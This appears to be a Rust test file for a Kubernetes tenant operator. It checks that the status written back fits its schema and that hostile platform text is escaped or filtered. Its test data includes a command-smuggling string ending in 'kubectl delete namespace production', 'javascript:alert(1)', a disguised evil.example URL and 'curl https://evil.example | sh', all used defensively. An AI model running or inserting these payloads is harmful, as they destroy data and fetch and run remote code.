//! A status fits its own schema, no matter what a platform or a user says; else the API server would refuse all of it.

use super::*;
use crate::manifests::crd;
use crate::plan::stop::OwnerPlace;
use crate::resources::annotation;
use crate::resources::status::Drift;

/// The paths at which a value is longer than its schema allows.
fn misfits(schema: &Value, value: &Value, path: &str, found: &mut Vec<String>) {
    let most =
        |name: &str| schema.get(name).and_then(Value::as_u64).map_or(usize::MAX, |most| usize::try_from(most).unwrap());
    match value {
        Value::String(text) if text.chars().count() > most("maxLength") => found.push(path.to_owned()),
        Value::Array(items) => {
            if items.len() > most("maxItems") {
                found.push(path.to_owned());
            }
            let keys = schema.get("x-kubernetes-list-map-keys").and_then(Value::as_array);
            if let Some(key) = keys.and_then(|keys| keys[0].as_str()) {
                let mut names: Vec<_> = items.iter().map(|item| item[key].to_string()).collect();
                names.sort_unstable();
                names.dedup();
                if names.len() < items.len() {
                    found.push(format!("{path}: two of one {key}"));
                }
            }
            items.iter().for_each(|item| misfits(&schema["items"], item, &format!("{path}[]"), found));
        }
        Value::Object(members) => {
            for (name, member) in members {
                match schema["properties"].get(name) {
                    Some(schema) => misfits(schema, member, &format!("{path}.{name}"), found),
                    None => found.push(format!("{path}.{name} is not in the schema")),
                }
            }
        }
        _ => {}
    }
}

fn fits(status: &TenantStatus) {
    let [(_, tenants), ..] = crd::all();
    let schema = &tenants["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["status"];
    let mut found = Vec::new();
    misfits(schema, &serde_json::to_value(status).unwrap(), "status", &mut found);
    assert_eq!(found, Vec::<String>::new());
}

/// A platform that answers at excessive length.
fn talkative() -> Held {
    let long = |text: &str| text.repeat(700);
    let mut held = held().with("licenses.tenantState", long("s")).with("general.name", long("n"));
    held = held.with("partner.partnerId", long("p")).with("general.companyName", long("c"));
    let change = crate::admin_api::types::Pending { scope: long("s"), id: long("i"), change: long("c") };
    let runtime = &mut held.document().runtime;
    runtime.pending_changes = vec![change; 300];
    runtime.script_url = Some(format!("https://nimbus/{}", long("uu")));
    runtime.used = json!({ long("k"): { long("l"): 3 }, "users": { "a": 5, "b.c": 1, "b": { "c": 2 } } });
    let many = (0..300).map(|number| (format!("kind{number}"), json!(number + 1)));
    runtime.used["users"].as_object_mut().unwrap().extend(many);
    held.document().settings_version = format!("s1{}", "0".repeat(300));
    held
}

#[test]
fn a_talkative_platform_cannot_spoil_a_status() {
    let given = tenant("contoso").with("driftPolicy", "Report").settled();
    let given = given.annotated(annotation::RECONCILE, &"t".repeat(5000));
    let outcome = pass(&given, &mut talkative());
    let status = written(&given, outcome);
    fits(&status);
    assert_eq!(status.provisioning_script.unwrap().download_url, None, "a link that was cut leads nowhere");
}

#[test]
fn a_long_link_to_the_script_is_kept_whole() {
    let mut held = held();
    let url = format!("https://nimbus.example/{}", "u".repeat(600));
    held.document().runtime.script_url = Some(url.clone());
    let given = tenant("contoso").settled();
    let outcome = pass(&given, &mut held);
    assert_eq!(written(&given, outcome).provisioning_script.unwrap().download_url, Some(url));
}

#[test]
fn a_spec_that_is_all_wrong_fits_too() {
    let mut given = tenant("contoso").settled();
    for leaf in leaves().filter(|leaf| leaf.class == Class::Value) {
        // Of a wrong type an object cannot be read at all, so each leaf gets what its type takes and its rules do not.
        let wrong = [json!("\u{7}".repeat(400)), json!(-1)].map(|value| given.clone().with(leaf.path, value));
        let reads = |given: &Given| serde_json::from_value::<Tenant>(given.object.clone()).is_ok();
        given = wrong.into_iter().find(reads).unwrap_or(given);
    }
    let stop = given.blocked();
    let Stop::Invalid(violations) = &stop else { panic!("{stop:?}") };
    assert!(violations.len() >= 20);
    fits(&written(&given, Err(stop)));
}

#[test]
fn a_refusal_of_everything_fits_too() {
    let given = tenant("contoso").settled();
    let error = |n: usize| crate::admin_api::FieldError {
        pointer: format!("/{n}/{}", "p".repeat(254)),
        code: "c".repeat(64),
        min: Some(i64::MIN),
        max: Some(i64::MAX),
    };
    let problem = Problem {
        problem_type: ProblemType::Other("s".repeat(64)),
        request_id: Some("r".repeat(64)),
        errors: (0..64).map(error).collect(),
        ..Problem::default()
    };
    fits(&written(&given, Err(Stop::Rejected(problem))));
    fits(&written(&given, Err(Stop::OwnedByOther { stamp: "o".repeat(256), place: OwnerPlace::Elsewhere })));
    let differing = leaves().map(ToString::to_string).collect();
    fits(&written(&given, Err(Stop::NotAdopted { stale: Some("s".repeat(9999)), never: false, differing })));
}

/// An escape sequence, a second line, a turn of direction, the end of a quotation and what follows it.
const HOSTILE: &str = "x\u{1b}[2J\n\u{202e}\u{200b}'; kubectl delete namespace production";

fn hostile() -> Held {
    let mut held = held().with("licenses.tenantState", HOSTILE).with("general.name", HOSTILE);
    held = held.with("partner.partnerId", HOSTILE).with("general.companyName", HOSTILE);
    let text = || HOSTILE.to_owned();
    let change = crate::admin_api::types::Pending { scope: text(), id: text(), change: text() };
    held.document().settings_version = text();
    let runtime = &mut held.document().runtime;
    runtime.pending_changes = vec![change];
    runtime.used = json!({ "users": { HOSTILE: 5 } });
    runtime.widget_key.last_token = Some(text());
    runtime.instant_messaging.last_token = Some(text());
    held
}

fn texts(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(text) => found.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
        Value::Object(members) => members.values().for_each(|member| texts(member, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn shows_nothing_hostile(status: &TenantStatus) {
    let mut found = vec![];
    texts(&serde_json::to_value(status).unwrap(), &mut found);
    assert!(found.iter().any(|text| text.contains("kubectl delete")), "the test says something hostile: {found:?}");
    for text in &found {
        assert!(text.chars().all(crate::text::is_printable), "{text:?}");
    }
    for condition in &status.conditions {
        let message = &condition.message;
        assert_eq!(message.matches("'; kubectl").count(), message.matches("\\'; kubectl").count(), "{message}");
    }
    for Drift { found, .. } in &status.drift {
        assert_eq!(found.matches("'; kubectl").count(), found.matches("\\'; kubectl").count(), "{found}");
    }
}

#[test]
fn what_a_platform_says_is_quoted_and_filtered_everywhere() {
    let given = tenant("contoso").with("driftPolicy", "Report").settled();
    let outcome = pass(&given, &mut hostile());
    shows_nothing_hostile(&written(&given, outcome));
    let unit = "44444444-0d3e-4f5a-8b7c-9d0e1f2a3b4c";
    let given = given.with("provisioning.defaultOrganizationUnitId", unit);
    let mut moved = hostile();
    moved.document().settings_version = held().document().settings_version.clone();
    let pointer = "/provisioning/defaultOrganizationUnitId".to_owned();
    let reference = crate::admin_api::types::MovedReference { pointer, from: unit.into(), to: HOSTILE.into() };
    moved.document().runtime.moved_references = vec![reference];
    let outcome = pass(&given, &mut moved);
    let status = written(&given, outcome);
    assert!(status.conditions.iter().any(|condition| condition.message.contains("was deleted")), "{status:?}");
    shows_nothing_hostile(&status);
    let stops = [
        Stop::OwnedByOther { stamp: HOSTILE.into(), place: OwnerPlace::Elsewhere },
        Stop::Rejected(Problem {
            problem_type: ProblemType::InvalidSettings,
            request_id: Some("r-1".into()),
            errors: vec![crate::admin_api::FieldError { pointer: HOSTILE.into(), ..Default::default() }],
            ..Problem::default()
        }),
    ];
    for stop in stops {
        shows_nothing_hostile(&written(&given, Err(stop)));
    }
}

#[test]
fn only_a_link_that_people_may_follow_is_shown() {
    for (link, expected) in [
        ("https://nimbus.example/script.ps1?a=1", Some("https://nimbus.example/script.ps1?a=1")),
        ("http://127.0.0.1:8080/script", Some("http://127.0.0.1:8080/script")),
        ("https://nimbus.example/a b\u{202e}", Some("https://nimbus.example/a%20b%E2%80%AE")),
        ("http://nimbus.example/script", None),
        ("javascript:alert(1)", None),
        ("https://nimbus.example@evil.example/script", None),
        ("curl https://evil.example | sh", None),
        ("", None),
    ] {
        let mut held = held();
        held.document().runtime.script_url = Some(link.to_owned());
        held.document().runtime.pending_changes = vec![crate::admin_api::types::Pending::default()];
        let given = tenant("contoso").settled();
        let outcome = pass(&given, &mut held);
        let shown = written(&given, outcome).provisioning_script.unwrap().download_url;
        assert_eq!(shown.as_deref(), expected, "{link}");
    }
}
